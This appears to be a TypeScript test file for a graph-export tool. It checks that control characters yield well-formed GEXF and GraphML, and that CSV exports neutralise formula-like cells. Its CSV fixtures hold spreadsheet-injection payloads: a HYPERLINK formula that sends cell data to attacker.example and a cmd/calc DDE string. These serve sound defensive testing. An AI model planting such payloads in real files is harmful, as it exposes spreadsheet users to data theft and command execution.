/**
 * Probes on exports: characters XML cannot hold, loaded into a store before the text rule (bulk
 * upsert), still give well-formed GEXF and GraphML on both stores; CSV cells that a spreadsheet
 * would run as formulas are neutralised, and the CSV round trip still restores them exactly.
 */
import { parse as parseCsv } from 'csv-parse/sync';
import { SaxesParser } from 'saxes';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { GraphData, GraphNode } from '../../src/domain/graph-records.js';
import { fromCsv, toCsv } from '../../src/export/csv.js';
import { exportChunks, writerFor } from '../../src/export/export-stream.js';
import type { ExportFormat } from '../../src/export/export-format.js';
import { fromGexf, toGexf } from '../../src/export/gexf.js';
import { readSlice, SliceReader } from '../../src/export/graph-slice.js';
import { fromGraphml, toGraphml } from '../../src/export/graphml.js';
import { readImportFiles } from '../../src/ingest/import/import-files.js';
import type { GraphStore } from '../../src/store/graph-store.js';
import { MemoryStore } from '../../src/store/memory/memory-store.js';

/** Throws unless the text is well-formed XML 1.0 (saxes checks every character). */
function wellFormed(xml: string): void {
  const parser = new SaxesParser();
  let error: Error | undefined;
  parser.on('error', (e) => (error ??= e));
  parser.write(xml).close();
  if (error) throw error;
}

async function streamed(store: GraphStore, format: ExportFormat): Promise<string> {
  const reader = await SliceReader.open(store, {}, { pageSize: 2 });
  let text = '';
  for await (const chunk of exportChunks(reader, writerFor(format))) text += chunk;
  return text;
}

const cited = [{ source: 'source:doc', quote: 'said \u0003 so' }];

function dirtyGraph(loneSurrogates: boolean): GraphData {
  const node = (key: string, name: string, extra: Partial<GraphNode> = {}): GraphNode => ({
    key,
    type: 'Association',
    name,
    aliases: [],
    props: {},
    sources: cited,
    ...extra,
  });
  return {
    nodes: [
      { ...node('source:doc', 'Doc'), type: 'Source', sources: [{ source: 'source:doc' }] },
      node('bad', 'Bad\u0000Name\u0001', {
        description: 'vertical\u000btab and \ufffe',
        aliases: loneSurrogates ? ['half \ud800 pair'] : ['bell\u0007'],
        props: { note: 'a\u0002b', ok: 'Zürich 😀' },
      }),
      node('good', 'Good'),
    ],
    edges: [
      {
        key: 'COOPERATES_WITH:bad->good',
        type: 'COOPERATES_WITH',
        from: 'bad',
        to: 'good',
        props: { role: 'x\u001fy' },
        sources: cited,
      },
    ],
  };
}

const stores: [string, (data: GraphData) => Promise<GraphStore>, boolean][] = [
  ['embedded store', (data) => MemoryStore.fromData(data), true],
  [
    'Neo4j',
    async (data) => {
      const { Neo4jStore } = await import('../../src/store/neo4j/neo4j-store.js');
      const store = await Neo4jStore.connect(inject('neo4j'));
      await store.clearAll();
      await store.upsert(data);
      return store;
    },
    // The driver sends UTF-8, which has no lone surrogates.
    false,
  ],
];

describe.each(stores)('XML exports of control characters: %s', (_name, open, lone) => {
  let store: GraphStore;
  beforeAll(async () => {
    store = await open(dirtyGraph(lone));
  });
  afterAll(() => store.close());

  it.each([
    ['GEXF', 'gexf', fromGexf],
    ['GraphML', 'graphml', fromGraphml],
  ] as const)(
    '%s is well-formed XML and reads back with U+FFFD in their place',
    async (_f, format, read) => {
      const text = await streamed(store, format);
      expect(() => wellFormed(text)).not.toThrow();
      const data = read(text);
      const bad = data.nodes.find((n) => n.key === 'bad')!;
      expect(bad.name).toBe('Bad\ufffdName\ufffd');
      expect(bad.description).toBe('vertical\ufffdtab and \ufffd');
      // JSON columns (aliases, props, sources) escape control characters: they come back whole.
      expect(bad.aliases).toEqual([lone ? 'half \ud800 pair' : 'bell\u0007']);
      expect(bad.props).toEqual({ note: 'a\u0002b', ok: 'Zürich 😀' });
      expect(data.edges[0]!.sources).toEqual([{ source: 'source:doc', quote: 'said \u0003 so' }]);
      expect(data.edges[0]!.props).toEqual({ role: 'x\u001fy' });
      // The same text from the in-memory writers.
      const whole = await readSlice(store, {});
      expect(() => wellFormed(format === 'gexf' ? toGexf(whole) : toGraphml(whole))).not.toThrow();
    },
  );
});

describe('CSV exports neutralise formulas', () => {
  const formulas: GraphData = {
    nodes: [
      {
        key: 'source:doc',
        type: 'Source',
        name: 'Doc',
        aliases: [],
        props: {},
        sources: [{ source: 'source:doc' }],
      },
      {
        key: 'evil',
        type: 'Association',
        name: '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
        aliases: ['@SUM(1+1)'],
        description: "+cmd|' /C calc'!A0",
        props: { lat: -12.5, code: '-5', quoted: "'=already quoted", plain: "'tis fine" },
        sources: [{ source: 'source:doc', quote: '\tstarts with a tab' }],
      },
    ],
    edges: [],
  };

  it('prefixes formula-like text cells with a quote, leaves numbers as they are', () => {
    const [header, row] = parseCsv(toCsv(formulas, 'nodes'));
    const cell = (name: string) => row![header!.indexOf(name)];
    // csv-parse gives the cells as they are in the file; the first row is the Source.
    const evil = parseCsv(toCsv(formulas, 'nodes'))[2]!;
    const at = (name: string) => evil[header!.indexOf(name)];
    expect(cell('key')).toBe('source:doc');
    expect(at('name')).toBe('\'=HYPERLINK("http://attacker.example/?x="&A1,"Click")');
    expect(at('description')).toBe("'+cmd|' /C calc'!A0");
    expect(at('prop_lat')).toBe('-12.5');
    expect(at('prop_code')).toBe("'-5");
    expect(at('prop_quoted')).toBe("''=already quoted");
    expect(at('prop_plain')).toBe("'tis fine");
    const texts = evil.filter((_, i) => header![i] !== 'prop_lat');
    for (const value of texts) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('reads back exactly, through fromCsv and through `diplomap import`', () => {
    const nodesCsv = toCsv(formulas, 'nodes');
    const edgesCsv = toCsv(formulas, 'edges');
    expect(fromCsv(nodesCsv, edgesCsv)).toEqual(formulas);
    const { batch } = readImportFiles([
      { path: 'out/nodes.csv', text: nodesCsv },
      { path: 'out/edges.csv', text: edgesCsv },
    ]);
    expect(batch.rejected).toEqual([]);
    expect(batch.nodes.get('evil')?.node).toEqual(formulas.nodes[1]);
  });
});
